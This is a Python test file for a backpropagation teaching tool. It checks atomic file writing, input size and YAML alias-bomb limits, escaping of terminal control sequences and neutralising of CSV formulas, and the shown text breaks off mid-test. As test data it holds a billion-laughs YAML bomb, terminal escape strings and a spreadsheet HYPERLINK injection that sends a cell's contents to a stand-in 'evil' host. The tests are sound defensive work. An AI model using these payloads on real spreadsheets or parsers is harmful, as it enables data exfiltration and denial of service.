"""A teacher's files and machine are safe (issue 15): each case is a failure found by an attack on the
release, reproduced here; docs/robustness.md lists them.

Files bptrace writes (bptrace/output.py), files it reads (bptrace/model/source.py), text from files
reaching the teacher (bptrace/fmt.py), internal errors a user can trigger, unbounded work.
"""

from __future__ import annotations

import math
import os
import random
import re
import resource
import signal
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from bptrace import output
from bptrace.cli.main import main
from bptrace.errors import BptraceError, ScenarioError
from bptrace.fmt import csv_cell, echo, visible
from bptrace.model import source
from bptrace.model.scenario import BUNDLED_DIR, loads

ROOT = Path(__file__).resolve().parent.parent
MAZUR = (BUNDLED_DIR / "mazur.yaml").read_text()


def invoke(*args: str) -> object:
    return CliRunner().invoke(main, list(args))


def one_error(result: object) -> str:
    """The one stderr line of a clean exit 2 (never a traceback or an internal error)."""
    assert result.exit_code == 2, (result.exit_code, result.stdout, result.stderr)  # type: ignore[attr-defined]
    lines = result.stderr.strip().splitlines()  # type: ignore[attr-defined]
    assert len(lines) == 1, lines
    assert "internal error" not in lines[0] and "Traceback" not in lines[0]
    return str(lines[0])


def no_temporaries(folder: Path) -> None:
    assert not [p.name for p in folder.iterdir() if p.name.endswith(".tmp")]


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


# ---------------------------------------------------------------------------------------------------
# Files bptrace writes


def test_an_existing_file_is_replaced_only_with_force(here: Path) -> None:
    Path("out.txt").write_text("mine\n")
    line = one_error(invoke("run", "mazur", "-o", "out.txt"))
    assert line == (
        "bptrace: error: cannot write out.txt: the file exists (add --force to replace it, or choose another name)"
    )
    assert Path("out.txt").read_text() == "mine\n"
    result = invoke("run", "mazur", "-o", "out.txt", "--force")
    assert result.exit_code == 0 and result.stdout == ""
    assert Path("out.txt").read_text().startswith("Mazur: A Step by Step Backpropagation Example")


def test_replacing_keeps_the_mode_600_stays_600(here: Path) -> None:
    Path("grades.txt").write_text("private\n")
    os.chmod("grades.txt", 0o600)
    assert invoke("run", "mazur", "-o", "grades.txt", "--force").exit_code == 0
    assert stat.S_IMODE(os.stat("grades.txt").st_mode) == 0o600
    assert "Mazur" in Path("grades.txt").read_text()
    no_temporaries(here)


def test_a_new_file_gets_the_mode_of_an_ordinary_new_file(here: Path) -> None:
    umask = os.umask(0o022)
    try:
        assert invoke("run", "mazur", "-o", "new.txt").exit_code == 0
    finally:
        os.umask(umask)
    assert stat.S_IMODE(os.stat("new.txt").st_mode) == 0o644


def test_a_read_only_file_is_refused_even_with_force(here: Path) -> None:
    Path("key.txt").write_text("keep\n")
    os.chmod("key.txt", 0o444)
    line = one_error(invoke("run", "mazur", "-o", "key.txt", "--force"))
    assert line == (
        "bptrace: error: cannot write key.txt: the file is read-only "
        "(make it writable (chmod u+w key.txt) or choose another name)"
    )
    assert Path("key.txt").read_text() == "keep\n"


def test_a_symbolic_link_is_written_through_to_its_target(here: Path) -> None:
    Path("real.txt").write_text("old\n")
    os.chmod("real.txt", 0o640)
    os.symlink("real.txt", "link.txt")
    assert invoke("run", "mazur", "-o", "link.txt", "--force").exit_code == 0
    assert os.path.islink("link.txt")  # the link stays a link
    assert "Mazur" in Path("real.txt").read_text()
    assert stat.S_IMODE(os.stat("real.txt").st_mode) == 0o640


def test_a_hard_linked_file_is_refused_and_both_names_stay_intact(here: Path) -> None:
    Path("a.txt").write_text("shared\n")
    os.link("a.txt", "b.txt")
    line = one_error(invoke("run", "mazur", "-o", "a.txt", "--force"))
    assert "the file has 1 other hard link, which replacing it would cut" in line
    assert os.stat("a.txt").st_ino == os.stat("b.txt").st_ino and Path("b.txt").read_text() == "shared\n"


def test_a_device_is_written_as_a_stream_never_replaced() -> None:
    before = os.stat(os.devnull)
    target = output.prepare(os.devnull, force=False)
    assert target.kind == "stream"
    result = invoke("run", "mazur", "-o", os.devnull)  # no --force needed: nothing is replaced
    assert result.exit_code == 0 and result.stdout == ""
    after = os.stat(os.devnull)
    assert stat.S_ISCHR(after.st_mode) and (after.st_ino, after.st_rdev) == (before.st_ino, before.st_rdev)


def test_dash_is_stdout() -> None:
    result = invoke("run", "mazur", "-o", "-")
    assert result.exit_code == 0 and result.stdout.startswith("Mazur: A Step by Step Backpropagation Example")


def _chunks_then(action: object) -> Iterator[str]:
    yield "first part\n"
    action()  # type: ignore[operator]
    yield "never written\n"


def test_sigterm_while_writing_removes_the_temporary_file_and_keeps_the_old_one(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    path.write_text("the old report\n")
    target = output.prepare(str(path), force=True)
    with pytest.raises(output.Terminated):
        output.write(target, _chunks_then(lambda: os.kill(os.getpid(), signal.SIGTERM)))
    assert path.read_text() == "the old report\n"
    no_temporaries(tmp_path)
    assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL  # the handler is only there while writing


def test_an_error_while_writing_removes_the_temporary_file(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    path.write_text("the old report\n")

    def fail() -> None:
        raise RuntimeError("boom")

    with pytest.raises(RuntimeError):
        output.write(output.prepare(str(path), force=True), _chunks_then(fail))
    assert path.read_text() == "the old report\n"
    no_temporaries(tmp_path)


def test_sigterm_from_outside_leaves_the_file_whole(tmp_path: Path) -> None:
    """A real process, killed while it writes a report slowly: the old file stays, no .tmp is left."""
    path = tmp_path / "grades.csv"
    path.write_text("the old grades\n")
    code = (
        "import sys, time\nfrom bptrace import output\n"
        "def slow():\n    print('started', flush=True)\n"
        "    for _ in range(600):\n        time.sleep(0.05)\n        yield 'x' * 1000\n"
        f"output.write(output.prepare({str(path)!r}, force=True), slow())\n"
    )
    process = subprocess.Popen(
        [sys.executable, "-c", code], stdout=subprocess.PIPE, env={**os.environ, "PYTHONPATH": str(ROOT)}
    )
    assert process.stdout is not None and process.stdout.readline() == b"started\n"
    process.send_signal(signal.SIGTERM)
    process.wait(timeout=30)
    assert path.read_text() == "the old grades\n"
    no_temporaries(tmp_path)


def test_two_runs_at_once_each_write_a_whole_file(tmp_path: Path) -> None:
    """Two writers of one report at once spliced both; now the file is one of them, whole."""
    path = tmp_path / "grades.csv"
    path.write_text("old\n")
    code = (
        "import sys, time\nfrom bptrace import output\n"
        "def slow(mark):\n    for _ in range(40):\n        time.sleep(0.01)\n        yield mark * 1000 + '\\n'\n"
        f"output.write(output.prepare({str(path)!r}, force=True), slow(sys.argv[1]))\n"
    )
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    runs = [subprocess.Popen([sys.executable, "-c", code, mark], env=env) for mark in "ab"]
    assert [run.wait(timeout=60) for run in runs] == [0, 0]
    assert path.read_text() in {(mark * 1000 + "\n") * 40 for mark in "ab"}
    no_temporaries(tmp_path)


def test_a_file_size_limit_leaves_the_existing_file_whole(tmp_path: Path) -> None:
    """ulimit -f: the write fails (EFBIG), the 92 KB file that was there is unchanged, one line, exit 2."""
    path = tmp_path / "trace.json"
    old = "x" * 92_000
    path.write_text(old)

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))

    result = subprocess.run(
        [sys.executable, "-m", "bptrace", "run", "mazur", "--format", "json", "-o", str(path), "--force"],
        capture_output=True,
        text=True,
        preexec_fn=limit,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        timeout=120,
    )
    assert result.returncode == 2, result.stderr
    assert result.stderr == f"bptrace: error: cannot write {path}: the file is too large (a file-size limit?)\n"
    assert path.read_text() == old
    no_temporaries(tmp_path)


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full (Linux)")
@pytest.mark.parametrize("fmt", ["terminal", "json"])
def test_a_full_disk_on_stdout_is_one_line_exit_2(fmt: str) -> None:
    with open("/dev/full", "w") as full:
        result = subprocess.run(
            [sys.executable, "-m", "bptrace", "run", "mazur", "--format", fmt],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
            timeout=120,
        )
    assert result.returncode == 2
    assert result.stderr == "bptrace: error: cannot write the output: the disk is full\n"


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full (Linux)")
def test_a_full_device_as_output_is_one_line_exit_2() -> None:
    line = one_error(invoke("run", "mazur", "-o", "/dev/full"))
    assert line == "bptrace: error: cannot write /dev/full: the disk is full"


def _sheet(path: str, student: str = "Ada", answers: str = "{out_o1: 0.75136507}") -> None:
    Path(path).write_text(f"scenario: mazur\nstudent: {student}\nanswers: {answers}\n")


def _key(diagnose: bool = True) -> str:
    """A teacher's key for Mazur (reports and Gradescope need one: the sheet never sets its own grade)."""
    assert invoke("key", "mazur", "-o", "key.yaml", "--force").exit_code == 0
    if not diagnose:
        text = Path("key.yaml").read_text(encoding="utf-8")
        Path("key.yaml").write_text(re.sub(r"(?m)^(\s*)diagnose: true", r"\1diagnose: false", text), encoding="utf-8")
    return "key.yaml"


def test_check_never_writes_over_the_sheet_it_marks(here: Path) -> None:
    _sheet("b.yaml")
    before = Path("b.yaml").read_text()
    line = one_error(invoke("check", "b.yaml", "-o", "b.yaml", "--force"))
    assert line == "bptrace: error: cannot write b.yaml: it is one of this command's inputs (give -o another name)"
    os.symlink("b.yaml", "alias.yaml")  # the same file by another name
    one_error(invoke("check", "b.yaml", "--report", "alias.yaml", "--force"))
    assert Path("b.yaml").read_text() == before


def test_template_never_writes_over_its_exercise(here: Path) -> None:
    Path("myex.yaml").write_text(MAZUR)
    line = one_error(invoke("template", "myex.yaml", "-o", "myex.yaml", "--force"))
    assert line == "bptrace: error: cannot write myex.yaml: it is one of this command's inputs (give -o another name)"
    assert Path("myex.yaml").read_text() == MAZUR


def test_a_file_read_by_the_command_is_never_replaced_even_when_found_late(here: Path) -> None:
    """The sheet names its scenario; the scenario file is read during the work and then protected."""
    Path("ex.yaml").write_text(MAZUR)
    _sheet("b.yaml")
    Path("b.yaml").write_text(Path("b.yaml").read_text().replace("scenario: mazur", "scenario: ex.yaml"))
    one_error(invoke("check", "b.yaml", "--report", "ex.yaml", "--force"))
    assert Path("ex.yaml").read_text() == MAZUR


def test_check_report_is_written_through_the_writer(here: Path) -> None:
    _sheet("b.yaml")
    Path("grades.csv").write_text("old\n")
    os.chmod("grades.csv", 0o600)
    line = one_error(invoke("check", "b.yaml", "--key", _key(), "--report", "grades.csv"))
    assert "cannot write grades.csv: the file exists (add --force" in line
    assert Path("grades.csv").read_text() == "old\n"
    assert invoke("check", "b.yaml", "--key", "key.yaml", "--report", "grades.csv", "--force").exit_code == 1
    assert Path("grades.csv").read_text(encoding="utf-8").lstrip("\ufeff").startswith("student,")
    assert stat.S_IMODE(os.stat("grades.csv").st_mode) == 0o600


def test_train_checks_its_output_paths_before_training(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import bptrace.engine.train

    def no_training(*args: object, **kwargs: object) -> None:
        raise AssertionError("trained before checking the outputs")

    monkeypatch.setattr(bptrace.engine.train, "train", no_training)
    line = one_error(invoke("train", "mazur", "--csv", "missing_dir/h.csv"))
    assert line == (
        f"bptrace: error: cannot write missing_dir/h.csv: the folder {here / 'missing_dir'} does not exist "
        "(create it first, or choose another folder)"
    )
    Path("loss.png").write_bytes(b"a picture")
    pytest.importorskip("matplotlib")
    assert "cannot write loss.png: the file exists" in one_error(invoke("train", "mazur", "--plot", "loss.png"))
    assert Path("loss.png").read_bytes() == b"a picture"


def test_diagram_replaces_a_picture_only_with_force_and_atomically(here: Path) -> None:
    pytest.importorskip("matplotlib")
    Path("net.png").write_bytes(b"old picture")
    os.chmod("net.png", 0o600)
    assert "cannot write net.png: the file exists" in one_error(invoke("diagram", "mazur", "-o", "net.png"))
    assert invoke("diagram", "mazur", "-o", "net.png", "--force").exit_code == 0
    assert Path("net.png").read_bytes().startswith(b"\x89PNG")
    assert stat.S_IMODE(os.stat("net.png").st_mode) == 0o600
    no_temporaries(here)


@pytest.mark.parametrize(
    "args",
    [
        ["run", "mazur"],
        ["compare", "mazur", "--vary", "loss=half_sse,sse"],
        ["explain", "w5", "--no-checks"],
        ["template", "mazur"],
        ["new", "--seed", "1"],
        ["train", "mazur", "--epochs", "1"],
        ["check", "sheet.yaml"],
        ["lesson", "mazur"],
    ],
)
def test_every_command_that_writes_files_has_force(here: Path, args: list[str]) -> None:
    _sheet("sheet.yaml")
    Path("out.txt").write_text("old\n")
    assert "the file exists (add --force" in one_error(invoke(*args, "-o", "out.txt"))
    assert invoke(*args, "-o", "out.txt", "--force").exit_code in (0, 1)
    assert Path("out.txt").read_text() != "old\n"


# ---------------------------------------------------------------------------------------------------
# Files bptrace reads


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_a_device_is_refused_at_once(here: Path, device: str) -> None:
    if not os.path.exists(device):
        pytest.skip(f"no {device}")
    assert one_error(invoke("run", device)) == (
        f"bptrace: error: {device}: is a device, not a file (give the path of a .yaml file)"
    )
    os.symlink(device, "s.yaml")
    assert "s.yaml: is a device, not a file" in one_error(invoke("run", "s.yaml"))
    _sheet("x.yaml")
    assert f"{device}: is a device, not a file" in one_error(invoke("check", "x.yaml", "-s", device))


def test_a_fifo_with_no_writer_is_refused_at_once(here: Path) -> None:
    os.mkfifo("f.yaml")
    assert one_error(invoke("run", "f.yaml")) == (
        "bptrace: error: f.yaml: is a FIFO (named pipe), not a file (give the path of a .yaml file)"
    )


def test_at_most_the_size_limit_plus_one_byte_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(source, "MAX_BYTES", 1000)
    path = tmp_path / "s.yaml"
    path.write_text("a: 1\n" * 300)
    with pytest.raises(ScenarioError, match=r"file is too large \(1500 bytes; at most 1000\)"):
        source.load(path, ScenarioError)


def test_a_document_of_too_many_values_is_refused_before_its_tree_is_built(monkeypatch: pytest.MonkeyPatch) -> None:
    """4 million keys took 42 s and 3 GB: now counted from the parser's events, and no tree is composed."""
    import yaml

    def no_compose(*args: object, **kwargs: object) -> None:
        raise AssertionError("composed the whole tree before refusing")

    monkeypatch.setattr(yaml, "compose", no_compose)
    monkeypatch.setattr(source, "MAX_NODES", 1000)
    text = "".join(f"k{i}: 1\n" for i in range(5000))
    with pytest.raises(ScenarioError) as info:
        source.parse(text, "big.yaml", ScenarioError)
    assert str(info.value) == (
        "big.yaml:500: the document has more than 1,000 values "
        "(bptrace reads networks of up to about a million parameters)"
    )


def test_new_with_60_layers_writes_an_exercise_it_can_read(here: Path) -> None:
    """--shape with 60 layers of 64 (about 245,000 values) was refused by its own reader as 'an alias bomb?'."""
    from bptrace.grading.answers import random_exercise

    shape = [64] * 60
    text = random_exercise(1, shape, "sigmoid", None, "half_sse", 0.5, 1, command="bptrace new")
    doc = source.parse(text, "exercise.yaml", ScenarioError)  # issue 21 asks the same of 784-256-10
    assert len(doc.data["layers"]) == 59 and 64 * 64 * 59 > 200_000


def test_new_refuses_a_shape_whose_exercise_it_could_not_read() -> None:
    line = one_error(invoke("new", "--shape", "-".join(["64"] * 300)))
    assert f"has {299 * 65 * 64:,} parameters; at most {source.MAX_NODES // 2:,}" in line


def test_alias_bombs_are_still_refused_by_their_repetitions() -> None:
    text = "a: &a [" + ", ".join(["1"] * 100) + "]\n" + "b: [" + ", ".join(["*a"] * 2000) + "]\n"
    with pytest.raises(ScenarioError, match=r"repeats more than 100000 values through aliases \(an alias bomb\?\)"):
        source.parse(text, "bomb.yaml", ScenarioError)


def _layer_yaml(rng: object, rows: int, cols: int) -> str:
    import numpy as np

    assert isinstance(rng, np.random.Generator)
    weights = (rng.standard_normal((rows, cols)) * 0.05).round(4)
    lines = "\n".join("      - [" + ", ".join(map(repr, row.tolist())) + "]" for row in weights)
    biases = ", ".join(map(repr, (rng.standard_normal(rows) * 0.1).round(3).tolist()))
    return f"    weights:\n{lines}\n    biases: [{biases}]\n"


def _mnist_sized_scenario(path: Path) -> int:
    """A 784-256-10 network (sigmoid, softmax + cross-entropy) written as YAML; returns its parameter count."""
    import numpy as np

    rng = np.random.default_rng(21)
    inputs = ", ".join(map(repr, rng.random(784).round(3).tolist()))
    text = (
        f"title: 784-256-10\ninputs: [{inputs}]\ntargets: [1, 0, 0, 0, 0, 0, 0, 0, 0, 0]\nloss: cross_entropy\n"
        "layers:\n  - activation: sigmoid\n" + _layer_yaml(rng, 256, 784) + "  - activation: softmax\n"
        "" + _layer_yaml(rng, 10, 256)
    )
    path.write_text(text)
    return 256 * 785 + 10 * 257


def test_a_784_256_10_network_loads_and_runs(here: Path) -> None:
    """Issue 21: 203,530 parameters (over 200,000 values, a 1.7 MB file) were refused; they load, and `run`
    works in the terminal (--rows keeps it short; --verify auto samples) and as JSON."""
    count = _mnist_sized_scenario(here / "big.yaml")
    assert count > 200_000 and (here / "big.yaml").stat().st_size < source.MAX_BYTES / 10
    result = invoke("run", "big.yaml", "--rows", "3")
    assert result.exit_code == 0, result.stderr  # type: ignore[attr-defined]
    out = result.stdout  # type: ignore[attr-defined]
    assert f"{count - 3} more parameters not shown" in out
    assert "Verification (sample)" in out and "finite differences for" in out
    assert len(out.splitlines()) < 400
    result = invoke("run", "big.yaml", "--format", "json", "--verify", "off", "-o", "big.json")
    assert result.exit_code == 0, result.stderr  # type: ignore[attr-defined]
    weights = 0
    with open("big.json", "rb") as fh:
        head = fh.read(200)
        fh.seek(0)
        for line in fh:
            weights += line == b'   "kind": "weight",\n'
        fh.seek(-2, os.SEEK_END)
        tail = fh.read()
    assert head.startswith(b'{\n "bptrace": ') and tail == b"}\n"
    assert weights == 256 * 784 + 10 * 256


def test_a_classic_billion_laughs_is_refused_quickly_in_one_line(here: Path) -> None:
    """Nine levels of ten aliases (10⁹ values once expanded) are refused by their expansion, at once."""
    import time

    lines = ['lol0: &lol0 "lol"']
    for level in range(1, 10):
        lines.append(f"lol{level}: &lol{level} [" + ", ".join([f"*lol{level - 1}"] * 10) + "]")
    Path("bomb.yaml").write_text("\n".join(lines) + "\nlayers: *lol9\n")
    start = time.perf_counter()
    line = one_error(invoke("run", "bomb.yaml"))
    assert time.perf_counter() - start < 10
    assert line.startswith("bptrace: error: bomb.yaml:")
    assert "through aliases (an alias bomb?)" in line


# One number grammar: YAML 1.2's core schema, as answer sheets read numbers.
@pytest.mark.parametrize(
    "written,value",
    [("017", 17.0), ("0x10", 16.0), ("0o17", 15.0), ("1e-3", 0.001), ("+0.5", 0.5), (".5", 0.5), ("5.", 5.0)],
)
def test_numbers_are_read_as_yaml_1_2_reads_them(written: str, value: float) -> None:
    s = loads(MAZUR.replace("learning_rate: 0.5", f"learning_rate: {written}"), "s.yaml")
    assert s.learning_rate == value


@pytest.mark.parametrize("written", ["0b101", "1_000", "1:30", "0x_10", "-0x10", "1,5"])
def test_yaml_1_1_numbers_are_refused_with_their_line(written: str) -> None:
    line = MAZUR.splitlines().index("learning_rate: 0.5") + 1
    with pytest.raises(ScenarioError) as info:
        loads(MAZUR.replace("learning_rate: 0.5", f"learning_rate: {written}"), "s.yaml")
    assert str(info.value).startswith(f"s.yaml:{line}:")
    assert f"got {written!r}" in str(info.value)


@pytest.mark.parametrize("written,value", [("yes", "yes"), ("on", "on"), ("true", True), ("False", False)])
def test_only_true_and_false_are_booleans(written: str, value: object) -> None:
    assert source.parse(f"x: {written}\n", "x.yaml", ScenarioError).data == {"x": value}


# ---------------------------------------------------------------------------------------------------
# Text from files reaching the teacher


ESCAPES = "\x1b[31m\x1b]0;owned\x07\x1b[2J\u202e"


def test_control_characters_are_shown_visibly() -> None:
    assert visible(ESCAPES) == "\\x1b[31m\\x1b]0;owned\\x07\\x1b[2J\\u202e"
    assert visible("a\tb\nc", lines=True) == "a\tb\nc" and visible("a\tb\nc") == "a\\x09b\\x0ac"
    assert visible("Müller, 张伟, ∂E/∂w") == "Müller, 张伟, ∂E/∂w"


def test_a_student_name_with_escape_sequences_never_reaches_the_terminal_raw(here: Path) -> None:
    Path("b.yaml").write_text(
        'scenario: mazur\nstudent: "\\e[31mEve\\e]0;owned\\a\\e[2J"\nanswers: {out_o1: 0.75136507}\n'
    )
    key = _key()
    for fmt in ("terminal", "json", "gradescope"):
        result = invoke("check", "b.yaml", "--key", key, "--format", fmt, "--report-long", "r.csv", "--force")
        assert result.exit_code == 1, result.stderr  # the key asks more than out_o1
        for text in (result.stdout, Path("r.csv").read_text()):
            assert "\x1b" not in text and "\x07" not in text
        assert "Eve" in result.stdout


def test_a_scenario_title_with_escape_sequences_is_shown_visibly(here: Path) -> None:
    Path("s.yaml").write_text(MAZUR.replace('title: "Mazur:', 'title: "\\e[2J\\e]0;owned\\aMazur:'))
    result = invoke("run", "s.yaml", "--verify", "off")
    assert result.exit_code == 0
    assert "\x1b" not in result.stdout and "\\x1b[2J\\x1b]0;owned\\x07Mazur:" in result.stdout


def test_a_file_name_with_escape_sequences_is_shown_visibly_in_errors(here: Path) -> None:
    line = one_error(invoke("run", "\x1b[2Jmissing.yaml"))
    assert line == "bptrace: error: \\x1b[2Jmissing.yaml: no such file (check the path)"


@pytest.mark.parametrize(
    "cell,shown",
    [
        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\\x09=1"),
        ("\r=1", "'\\x0d=1"),
        ("-0.25", "-0.25"),
        ("+3e-05", "+3e-05"),
        ("Ada", "Ada"),
    ],
)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(cell: str, shown: str) -> None:
    assert csv_cell(cell) == shown


def test_the_grade_report_neutralises_formulas(here: Path) -> None:
    _sheet("b.yaml", student='\'=HYPERLINK("http://evil/?"&A1,"x")\'', answers="{out_o1: -0.5}")
    invoke("check", "b.yaml", "--key", _key(), "--report-long", "grades.csv")
    import csv

    rows = list(csv.reader(Path("grades.csv").read_text(encoding="utf-8").lstrip("\ufeff").splitlines()))
    mine = next(r for r in rows[1:] if r[2] == "out_o1")
    assert mine[0] == '\'=HYPERLINK("http://evil/?"&A1,"x")' and mine[3] == "-0.5"


def test_a_megabyte_answer_is_cut_in_the_message(here: Path) -> None:
    _sheet("b.yaml", answers="{out_o1: '" + "9" * 1_000_000 + "x'}")
    line = one_error(invoke("check", "b.yaml"))
    assert len(line) < 300 and "… (1,000,001 characters)" in line


def test_a_401_digit_learning_rate_is_cut_in_the_message(here: Path) -> None:
    Path("s.yaml").write_text(MAZUR.replace("learning_rate: 0.5", "learning_rate: " + "1" * 401))
    line = one_error(invoke("run", "s.yaml"))
    assert len(line) < 300 and "…" in line and "1" * 100 not in line


def test_echo_cuts_and_shows_control_characters() -> None:
    assert echo("a" * 1_000_000) == "'" + "a" * 58 + "… (1,000,000 characters)"
    assert echo("\x1b[2J") == "'\\x1b[2J'"


def test_every_error_message_is_one_visible_line_of_bounded_length() -> None:
    text = str(BptraceError("bad " + "\x1b" + "x" * 5000 + " end", hint="fix it"))
    assert "\x1b" not in text and len(text) < 300 and text.endswith("end (fix it)")


# ---------------------------------------------------------------------------------------------------
# Internal errors a user can trigger: each a clean message, exit 2


@pytest.mark.parametrize(
    "answer,message",
    [
        ("1e999999999", "'1e999999999' is outside the range of numbers bptrace computes with"),
        ("1e-999999999", "'1e-999999999' is outside the range of numbers bptrace computes with"),
        ("1" * 5000, "has more digits than any value needs"),
    ],
)
def test_huge_answers_are_clean_errors(here: Path, answer: str, message: str) -> None:
    _sheet("b.yaml", answers=f"{{out_o1: {answer}}}")
    assert message in one_error(invoke("check", "b.yaml"))


@pytest.mark.parametrize("key", ["learning_rate: 0.5", "value: 0.40"])
def test_an_integer_of_5000_digits_in_a_scenario_is_a_clean_error(here: Path, key: str) -> None:
    assert key in MAZUR
    Path("s.yaml").write_text(MAZUR.replace(key, key.split(":")[0] + ": " + "7" * 5000, 1))
    assert "has more digits than any value needs (write it in e-notation, such as 1e5)" in one_error(
        invoke("run", "s.yaml")
    )


@pytest.mark.parametrize("value", ["inf", "nan", "1e400", "-inf"])
def test_new_refuses_a_learning_rate_that_is_not_finite(value: str) -> None:
    line = one_error(invoke("new", "--learning-rate", value))
    assert "Invalid value for '--learning-rate'" in line


@pytest.mark.parametrize("value", ["nan", "inf"])
def test_check_refuses_an_rtol_that_is_not_finite(here: Path, value: str) -> None:
    _sheet("b.yaml")
    line = one_error(invoke("check", "b.yaml", "--rtol", value))
    assert line.startswith(
        f"bptrace: error: Invalid value for '--rtol': {value!r} is not a finite number "
        "(NaN, infinity and 1e400 are not allowed) (see '"
    )


# ---------------------------------------------------------------------------------------------------
# Unbounded work


def test_no_diagnose_says_diagnosis_was_off(here: Path) -> None:
    _sheet("b.yaml", answers="{out_o1: 0.712345}")  # wrong: 0.75136507
    for args in (["--no-diagnose"], ["--key", _key(diagnose=False), "--format", "gradescope"]):
        result = invoke("check", "b.yaml", *args)
        assert result.exit_code == 1, result.stderr
        assert "diagnosis was off" in result.stdout and "no known misconception" not in result.stdout
    diagnosed = invoke("check", "b.yaml")
    assert "diagnosis was off" not in diagnosed.stdout


def test_the_fuzzer_mutator_does_not_overflow() -> None:
    sys.path.insert(0, str(ROOT / "tests"))
    from fuzzing import mutate_data, nudge

    assert nudge(10**400, 1e6) == math.inf and nudge(10**400, -1) == -(10**400)
    for seed in range(300):  # the crash after 19 minutes: 10**400 * 1e6
        mutate_data({"a": 10**400, "b": [10**400, 1.0]}, random.Random(seed))


def test_a_long_training_run_keeps_a_bounded_curve_and_streams_every_loss(monkeypatch: pytest.MonkeyPatch) -> None:
    """train --epochs 1000000000 grew 30 MB/s: now the curve keeps about `keep` points, every E_k goes to the
    sink as the run goes, and the kept points, snapshots and E_N are those of the full run."""
    import bptrace.engine.train as engine
    from bptrace.model.scenario import load

    monkeypatch.setattr(engine, "DRAIN_EVERY", 1000)
    s = load("mazur")
    full = engine.train(s, 20_000, every=5000)
    streamed: list[float] = []
    thinned = engine.train(s, 20_000, every=5000, keep=100, sink=lambda first, losses: streamed.extend(losses))
    assert streamed == full.history
    assert len(thinned.history) <= 100 + 6 and thinned.history_epochs is not None
    assert {0, 1, 5000, 10000, 15000, 20000} <= set(thinned.history_epochs)
    assert all(full.history[k] == e for k, e in thinned.curve())
    assert [snap.loss for snap in thinned.snapshots] == [snap.loss for snap in full.snapshots]


def test_train_streams_the_csv_of_a_long_run(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import bptrace.cli.train as cli_train
    import bptrace.engine.train as engine
    from bptrace.model.scenario import load

    monkeypatch.setattr(cli_train, "KEEP_ALL_EPOCHS", 1000)
    monkeypatch.setattr(engine, "DRAIN_EVERY", 500)
    result = invoke("train", "mazur", "--epochs", "3000", "--csv", "h.csv")
    assert result.exit_code == 0, result.stderr
    full = engine.train(load("mazur"), 3000).history
    assert Path("h.csv").read_text() == cli_train.history_csv(full)
    assert "the loss curve shown keeps" in result.stdout and "of the 3,001 values E_0..E_3000" in result.stdout
    line = one_error(invoke("train", "mazur", "--epochs", "3000", "--format", "json"))
    assert "--format json holds every epoch's loss; 3,000 epochs are more than 1,000" in line


def _measured_ratio(scenario: object, epochs: int, **options: object) -> float:
    """The estimate measure_seconds makes for `epochs` over the loop time of a run of them (best of 2 runs,
    so that one stall of a shared machine does not decide)."""
    import bptrace.engine.train as engine

    batch = options.pop("batch_size", None)
    estimate = engine.measure_seconds(scenario, epochs, batch, **options)  # type: ignore[arg-type]
    taken = min(engine.train(scenario, epochs, batch_size=batch, **options).seconds for _ in range(2))  # type: ignore[arg-type]
    return estimate / taken


@pytest.mark.parametrize(
    ("name", "options"),
    [("mazur", {}), ("mazur", {"path": "numpy"}), ("ng_shallow", {"batch_size": 1}), ("cs224n_window", {})],
)
def test_the_estimate_of_a_run_is_measured_within_a_factor_of_two(name: str, options: dict[str, object]) -> None:
    """The fixed per-update costs guessed 0.009 s for 20,000 Mazur epochs that took 0.09 s (and so 7 min for a
    billion epochs that take hours): the estimate is now timed on a short run (at most an eighth of the
    epochs), on the path the run takes, and is within a factor of 2 of the run."""
    from bptrace.model.scenario import load

    ratio = _measured_ratio(load(name), 20_000, **options)
    assert 0.5 <= ratio <= 2, ratio


def _train_seconds(env: dict[str, str], epochs: int) -> float:
    """The training time `bptrace train mazur --epochs N` reports of its own run ("scalar engine, 0.0185 s")."""
    out = subprocess.run(
        [sys.executable, "-m", "bptrace", "train", "mazur", "--epochs", str(epochs)],
        capture_output=True,
        text=True,
        env=env,
        check=True,
    ).stdout
    match = re.search(r"engine, ([0-9.e+-]+) s", out)
    assert match, out[:500]
    return float(match.group(1))


def test_a_billion_epochs_are_announced_with_a_measured_estimate_before_they_start() -> None:
    """`train mazur --epochs 1000000000`: before training, one line with the time a measured run predicts (within
    a factor of 2 of 50,000 times a 20,000-epoch run) and how to stop it; the run is then stopped with SIGINT."""

    env = {**os.environ, "PYTHONPATH": str(ROOT), "BPTRACE_LANG": "en"}
    proc = subprocess.Popen(
        [sys.executable, "-m", "bptrace", "train", "mazur", "--epochs", "1000000000"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    try:
        assert proc.stderr is not None
        line = proc.stderr.readline()  # written before the run starts
    finally:
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=60)
    # the same path as the command's (its own process: the scalar kernel, numpy-free scenario, the command's
    # collector setting), timed by the command itself once the billion-epoch run has stopped (not competing
    # with it for a core): pytest's process, with its large heap, trains slower
    per_epoch = min(_train_seconds(env, 20_000) for _ in range(2)) / 20_000
    match = re.fullmatch(
        r"bptrace: 1,000,000,000 epochs will take about (?:([\d,]+) h )?(\d+) min \(measured on a short run of this "
        r"network\); Ctrl-C stops the run\n",
        line,
    )
